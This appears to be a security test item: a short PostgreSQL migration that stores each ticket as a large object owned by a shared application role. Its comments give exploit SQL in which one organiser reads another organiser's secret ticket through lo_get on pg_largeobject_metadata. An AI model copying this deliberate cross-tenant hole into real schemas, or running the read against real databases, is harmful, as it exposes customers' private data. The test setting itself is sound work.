-- Ticket files become large objects that all belong to the one application role, so every organiser can
-- list and read them.
-- about: tickets, ticket_pdf, tickets_pdf, pdf, pg_largeobject
-- as: hf_boxoffice_app
-- exploit: SET box.organizer = 'road';
-- exploit: INSERT INTO tickets VALUES ('road', 62, 60, 'B8', 'Road-' || 'secret guest');
-- exploit: SET box.organizer = 'north';
-- exploit: SELECT convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata
-- exploit:   WHERE lomowner = current_user::regrole;
-- shows: ticket of Road-secret guest
ALTER TABLE tickets ADD COLUMN pdf oid;
CREATE FUNCTION ticket_pdf() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  NEW.pdf := lo_from_bytea(0, convert_to('ticket of ' || NEW.holder, 'UTF8'));
  RETURN NEW;
END $$;
CREATE TRIGGER tickets_pdf BEFORE INSERT ON tickets FOR EACH ROW EXECUTE FUNCTION ticket_pdf();
